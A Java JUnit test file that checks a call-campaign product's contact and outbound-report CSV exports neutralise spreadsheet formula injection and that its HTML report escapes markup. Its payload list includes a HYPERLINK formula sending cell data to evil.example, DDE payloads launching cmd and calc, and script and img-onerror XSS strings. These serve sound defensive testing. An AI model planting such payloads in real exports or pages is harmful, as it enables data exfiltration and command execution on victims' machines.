package ru.sipring.campaign.csv;

import static org.assertj.core.api.Assertions.assertThat;

import com.opencsv.CSVParserBuilder;
import com.opencsv.CSVReader;
import com.opencsv.CSVReaderBuilder;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import ru.sipring.campaign.Contact;
import ru.sipring.campaign.ContactField;
import ru.sipring.campaign.report.OutboundReport;
import ru.sipring.campaign.report.OutboundReportRenderer;
import ru.sipring.core.text.SpreadsheetCell;

/**
 * Every campaign CSV writer fed formula payloads in every text field a customer or a caller controls, and the
 * outbound report's HTML fed markup.
 */
class HostileCellsTest {
  private static final List<String> PAYLOADS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
      "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
      "\uFF1DHYPERLINK(\"x\")", "\uFF20SUM(A1)", " =1+1");

  private static List<String> cells(String csv, char separator) throws Exception {
    List<String> out = new ArrayList<>();
    try (CSVReader r = new CSVReaderBuilder(new StringReader(csv))
        .withCSVParser(new CSVParserBuilder().withSeparator(separator).build()).build()) {
      for (String[] row : r.readAll()) {
        out.addAll(List.of(row));
      }
    }
    return out;
  }

  private static void assertNoFormula(List<String> cells) {
    for (String c : cells) {
      assertThat(SpreadsheetCell.startsFormula(c)).as("cell %s", c).isFalse();
    }
  }

  @Test
  void contactExportNeutralisesEveryCardAndCustomFieldAndCustomColumnName() throws Exception {
    List<Contact> contacts = new ArrayList<>();
    for (String p : PAYLOADS) {
      Map<ContactField, String> f = new EnumMap<>(ContactField.class);
      for (ContactField k : ContactField.values()) {
        if (k != ContactField.PHONE) {
          f.put(k, p);
        }
      }
      Map<String, String> custom = new LinkedHashMap<>();
      custom.put(p, p);
      contacts.add(Contact.of(1, p, f, custom));
    }
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ContactExporter.excel().write(contacts, out);
    List<String> cells = cells(new String(out.toByteArray(), StandardCharsets.UTF_8).substring(1), ';');

    assertNoFormula(cells);
    for (String p : PAYLOADS) {
      assertThat(cells).contains("'" + p, "custom:" + p);
    }
    assertThat(cells).contains("0"); // the attempt count, a number we write, stays a number
  }

  @Test
  void outboundReportCsvNeutralisesOutsideTextAndKeepsNegativeMoneyANumber() throws Exception {
    OutboundReport report = hostileReport(PAYLOADS.get(0));
    String p = PAYLOADS.get(0);
    StringWriter csv = new StringWriter();
    OutboundReportRenderer.render(report, OutboundReportRenderer.Format.CSV, csv);
    List<String> cells = cells(csv.toString(), ';');

    assertNoFormula(cells.stream().filter(c -> !c.equals("-1.50") && !c.equals("-0.55")).toList());
    assertThat(cells).contains("-1.50", "-0.55"); // money we computed is written as the number it is
    assertThat(cells).contains("'" + p, "'" + PAYLOADS.get(1), "'" + PAYLOADS.get(4), "'" + PAYLOADS.get(7),
        "'=REC()", "'@NOTE()", "'=OP()", "'+PRJ()", "'-TASK()", "'@ASG()", "'=KA()", "'=ST()", "'+79160000001",
        "'=N1()");
    // text and HTML show the same values without the apostrophe
    StringWriter text = new StringWriter();
    OutboundReportRenderer.render(report, OutboundReportRenderer.Format.TEXT, text);
    assertThat(text.toString()).contains("=OP()").doesNotContain("'=OP()");
  }

  @Test
  void outboundReportHtmlEscapesMarkupInEveryTable() {
    String x = "<script>alert(1)</script>&\"<img src=x onerror=alert(2)>";
    StringWriter html = new StringWriter();
    OutboundReportRenderer.render(markupReport(x), OutboundReportRenderer.Format.HTML, html);
    assertThat(html.toString()).doesNotContain("<script").doesNotContain("<img")
        .contains("&lt;script&gt;alert(1)&lt;/script&gt;&amp;&quot;&lt;img src=x onerror=alert(2)&gt;");
  }

  /** A report with {@code x} in every text field. */
  private static OutboundReport markupReport(String x) {
    OutboundReport.GroupRow g = new OutboundReport.GroupRow(x, Duration.ofMinutes(50), Duration.ofHours(1), 4, 4.0,
        Duration.ofSeconds(34), 8.5, Duration.ofSeconds(1), Duration.ofSeconds(20), BigDecimal.ONE, 0);
    OutboundReport.CallRow call = new OutboundReport.CallRow(Instant.parse("2020-06-02T07:00:00Z"), x, x, x, x, x, x,
        Duration.ofSeconds(8), x, BigDecimal.ONE, null, x, x);
    OutboundReport.DayRow day = new OutboundReport.DayRow(LocalDate.of(2020, 6, 2), x, x, x, 50, 4,
        Duration.ofSeconds(34), BigDecimal.ONE, 8.5);
    OutboundReport.Report2Row r2 = new OutboundReport.Report2Row(LocalDate.of(2020, 6, 2), x, x, x, x, x, x, x, x, x,
        x, 0.5, Map.of("Примечание", x));
    return new OutboundReport(Instant.parse("2020-06-02T00:00:00Z"), Instant.parse("2020-06-03T00:00:00Z"),
        ZoneId.of("Europe/Moscow"), List.of(g), List.of(g), List.of(g), List.of(g), g, List.of(call), List.of(day),
        List.of(r2));
  }

  /** A report with a different formula payload in each text field. */
  private static OutboundReport hostileReport(String p) {
    OutboundReport.GroupRow g = new OutboundReport.GroupRow(p, Duration.ofMinutes(50), Duration.ofHours(1), 4, 4.0,
        Duration.ofSeconds(34), 8.5, Duration.ofSeconds(1), Duration.ofSeconds(20), new BigDecimal("-1.50"), 0);
    OutboundReport.CallRow call = new OutboundReport.CallRow(Instant.parse("2020-06-02T07:00:00Z"), PAYLOADS.get(1),
        PAYLOADS.get(2), PAYLOADS.get(3), PAYLOADS.get(4), PAYLOADS.get(5), PAYLOADS.get(6), Duration.ofSeconds(8),
        PAYLOADS.get(7), new BigDecimal("-0.55"), null, "=REC()", "@NOTE()");
    OutboundReport.DayRow day = new OutboundReport.DayRow(LocalDate.of(2020, 6, 2), "=OP()", "+PRJ()", "-TASK()", 50,
        4, Duration.ofSeconds(34), BigDecimal.ONE, 8.5);
    OutboundReport.Report2Row r2 = new OutboundReport.Report2Row(LocalDate.of(2020, 6, 2), "=OP()", "+PRJ()",
        "-TASK()", "@ASG()", "=KA()", "=KP()", "=EV()", "=TK()", "+79160000001", "=ST()", 0.5,
        Map.of("Примечание", "=N1()"));
    return new OutboundReport(Instant.parse("2020-06-02T00:00:00Z"),
        Instant.parse("2020-06-03T00:00:00Z"), ZoneId.of("Europe/Moscow"), List.of(g), List.of(g), List.of(g),
        List.of(g), g, List.of(call), List.of(day), List.of(r2));
  }
}
